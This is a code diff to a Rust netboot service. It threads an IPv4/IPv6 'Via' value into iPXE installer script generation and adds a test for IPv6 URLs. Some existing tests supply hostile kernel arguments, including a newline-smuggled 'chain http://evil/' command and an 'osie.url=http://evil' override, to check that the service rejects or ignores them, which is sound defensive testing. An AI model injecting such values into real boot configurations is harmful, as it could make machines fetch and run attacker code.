@@ -18,13 +18,12 @@ use axum::http::{header, StatusCode};
 use axum::response::{IntoResponse, Response};
 use osie_api::MacAddr;
 
-use super::identify::source_ipv4;
 use super::AppState;
 use crate::config::Config;
 use crate::grub;
 use crate::inventory::Entry;
 use crate::ipxe;
-use crate::netboot;
+use crate::netboot::{self, Via};
 use crate::state::MachineState;
 use crate::trace::{ScriptStep, Step};
 
@@ -37,7 +36,9 @@ pub struct Choice {
     pub why: Option<String>,
 }
 
-pub fn choose(cfg: &Config, entry: Option<&Entry>, state: &MachineState, mac: MacAddr) -> Choice {
+/// `via`: how the machine reached bootsvc, the host of every URL in its script
+/// (`netboot::Via`).
+pub fn choose(cfg: &Config, entry: Option<&Entry>, state: &MachineState, mac: MacAddr, via: Via) -> Choice {
     let Some(entry) = entry else {
         let why = netboot::unknown(mac);
         return Choice { kind: "unknown", script: ipxe::local_boot(&why), why: Some(why) };
@@ -52,7 +53,7 @@ pub fn choose(cfg: &Config, entry: Option<&Entry>, state: &MachineState, mac: Ma
     }
     let rendered = match &m.netboot.ipxe_script_url {
         Some(url) => ipxe::chain(url, &banner).map(|s| ("chain", s)),
-        None => installer_script(cfg, entry, mac, &banner).map(|s| ("installer", s)),
+        None => installer_script(cfg, entry, mac, &banner, via).map(|s| ("installer", s)),
     };
     match rendered {
         Ok((kind, script)) => Choice { kind, script, why: None },
@@ -64,13 +65,13 @@ pub fn choose(cfg: &Config, entry: Option<&Entry>, state: &MachineState, mac: Ma
     }
 }
 
-fn installer_script(cfg: &Config, entry: &Entry, mac: MacAddr, banner: &str) -> Result<String, ipxe::Unsafe> {
-    let urls = netboot::base_urls(cfg);
-    let args = netboot::installer_args(cfg, &entry.machine, mac)?;
+fn installer_script(cfg: &Config, entry: &Entry, mac: MacAddr, banner: &str, via: Via) -> Result<String, ipxe::Unsafe> {
+    let urls = netboot::base_urls(cfg, via);
+    let args = netboot::installer_args(cfg, &entry.machine, mac, via)?;
     let files = |b: &str| {
         (format!("{b}/artifacts/{}", cfg.artifacts.kernel), format!("{b}/artifacts/{}", cfg.artifacts.initrd))
     };
-    let (kernel_url, initrd_url) = files(urls[0]);
+    let (kernel_url, initrd_url) = files(&urls[0]);
     let fallbacks: Vec<(String, String)> = urls[1..].iter().map(|p| files(p)).collect();
     ipxe::installer(&ipxe::Installer {
         kernel_url: &kernel_url,
@@ -95,7 +96,7 @@ pub async fn script(
     let snap = app.storage.snapshot();
     let entry = snap.by_mac(&mac);
     let state = entry.map(|e| app.storage.state_of(&e.machine)).unwrap_or_default();
-    let mut choice = choose(&app.cfg, entry, &state, mac);
+    let mut choice = choose(&app.cfg, entry, &state, mac, Via::of(peer));
     if let (None, Some(site)) = (entry, app.storage.other_site(&mac)) {
         let why = format!("{mac} is a machine of site {site}: that site's instances serve it");
         choice = Choice { kind: "other-site", script: ipxe::local_boot(&why), why: Some(why) };
@@ -129,7 +130,7 @@ pub async fn grub_entry(State(app): State<AppState>, ConnectInfo(peer): ConnectI
 
 /// A GRUB configuration (`netboot::grub`): identified like the TFTP request for it.
 fn grub_config(app: &AppState, peer: SocketAddr, name: grub::Name) -> Response {
-    let c = netboot::grub::answer(&app.cfg, &*app.storage, &app.identity, name, source_ipv4(peer));
+    let c = netboot::grub::answer(&app.cfg, &*app.storage, &app.identity, name, peer.ip());
     netboot::grub::log(&c, name, &peer, "http");
     ([(header::CONTENT_TYPE, "text/plain; charset=utf-8"), (header::CACHE_CONTROL, "no-store")], c.config)
         .into_response()
@@ -147,7 +148,7 @@ mod tests {
         let e = entry(&format!(
             r#"{{"hostname":"n1","macs":["{MAC}"],"netboot":{{"allow":true,"kernel_args":"osie.debug osie.url=http://evil"}}}}"#
         ));
-        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap());
+        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V4);
         assert_eq!(c.kind, "installer");
         let kernel = c.script.lines().find(|l| l.starts_with("kernel ")).unwrap();
         assert_eq!(
@@ -168,7 +169,7 @@ mod tests {
         let e = entry(&format!(
             r#"{{"hostname":"n1","macs":["{MAC}"],"netboot":{{"allow":true,"kernel_args":"osie.url=http://evil"}}}}"#
         ));
-        let c = choose(&cfg, Some(&e), &MachineState::default(), MAC.parse().unwrap());
+        let c = choose(&cfg, Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V4);
         assert_eq!(c.kind, "installer", "{:?}", c.why);
         let kernels: Vec<&str> = c.script.lines().filter(|l| l.starts_with("kernel ")).collect();
         assert_eq!(kernels.len(), 1, "one line, the fallbacks after `||`: {}", c.script);
@@ -195,19 +196,42 @@ mod tests {
     }
 
     #[test]
+    fn machines_over_ipv6_get_ipv6_urls() {
+        let mut cfg = cfg();
+        cfg.http.listen = "[::]:8080".parse().unwrap();
+        cfg.dhcp6.address = Some("2001:db8::1".parse().unwrap());
+        cfg.http.peers = vec!["http://192.0.2.2:8080".into()];
+        let e = entry(&format!(r#"{{"hostname":"n1","macs":["{MAC}"],"netboot":{{"allow":true}}}}"#));
+        let c = choose(&cfg, Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V6);
+        let kernel = c.script.lines().find(|l| l.starts_with("kernel ")).unwrap();
+        assert!(kernel.starts_with("kernel --name vmlinuz http://[2001:db8::1]:8080/artifacts/vmlinuz "), "{kernel}");
+        let params = BootParams::parse(kernel.split(" || ").next().unwrap()).unwrap();
+        assert_eq!(params.urls(), ["http://[2001:db8::1]:8080", "http://192.0.2.2:8080"]);
+        // IPv4 (and IPv4-mapped) callers of the same listener: `public_url`.
+        let c = choose(&cfg, Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V4);
+        assert!(c.script.contains(" osie.url=http://192.0.2.1:8080,http://192.0.2.2:8080 "), "{}", c.script);
+        assert_eq!(Via::of("[::ffff:192.0.2.9]:4000".parse().unwrap()), Via::V4);
+        assert_eq!(Via::of("[2001:db8::9]:4000".parse().unwrap()), Via::V6);
+        // An explicit `public_url6` wins over the one made from `dhcp6.address`.
+        cfg.http.public_url6 = Some("http://[2001:db8::80]:80/".into());
+        let c = choose(&cfg, Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V6);
+        assert!(c.script.contains(" osie.url=http://[2001:db8::80]:80,http://192.0.2.2:8080 "), "{}", c.script);
+    }
+
+    #[test]
     fn unknown_and_disallowed_machines_boot_locally() {
-        let c = choose(&cfg(), None, &MachineState::default(), MAC.parse().unwrap());
+        let c = choose(&cfg(), None, &MachineState::default(), MAC.parse().unwrap(), Via::V4);
         assert_eq!(c.kind, "unknown");
         assert!(c.script.ends_with("\nexit\n") && !c.script.contains("kernel"), "{}", c.script);
 
         let e = entry(&format!(r#"{{"hostname":"n1","macs":["{MAC}"]}}"#));
-        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap());
+        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V4);
         assert_eq!(c.kind, "local-boot");
         assert!(c.why.unwrap().contains("not allowed"));
 
         let e = entry(&format!(r#"{{"hostname":"n1","macs":["{MAC}"],"netboot":{{"allow":true}}}}"#));
         let installed = MachineState { netboot_cleared: true, ..Default::default() };
-        let c = choose(&cfg(), Some(&e), &installed, MAC.parse().unwrap());
+        let c = choose(&cfg(), Some(&e), &installed, MAC.parse().unwrap(), Via::V4);
         assert_eq!(c.kind, "local-boot");
         assert!(c.why.unwrap().contains("reinstall"));
     }
@@ -216,12 +240,12 @@ mod tests {
     fn custom_script_and_chain() {
         let e =
             entry(&format!(r#"{{"hostname":"n1","macs":["{MAC}"],"netboot":{{"allow":true,"ipxe_script":"shell"}}}}"#));
-        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap());
+        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V4);
         assert_eq!((c.kind, c.script.as_str()), ("custom", "#!ipxe\nshell\n"));
         let e = entry(&format!(
             r#"{{"hostname":"n1","macs":["{MAC}"],"netboot":{{"allow":true,"ipxe_script_url":"http://192.0.2.9/s.ipxe"}}}}"#
         ));
-        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap());
+        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V4);
         assert_eq!(c.kind, "chain");
         assert!(c.script.contains("\nchain --autofree http://192.0.2.9/s.ipxe || goto osie_failed\n"));
     }
@@ -232,7 +256,7 @@ mod tests {
         let e = entry(&format!(
             r#"{{"hostname":"n1","macs":["{MAC}"],"netboot":{{"allow":true,"kernel_args":"quiet\nchain http://evil/"}}}}"#
         ));
-        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap());
+        let c = choose(&cfg(), Some(&e), &MachineState::default(), MAC.parse().unwrap(), Via::V4);
         assert_eq!(c.kind, "error");
         assert!(!c.script.contains("evil") && !c.script.contains("kernel"), "{}", c.script);
     }
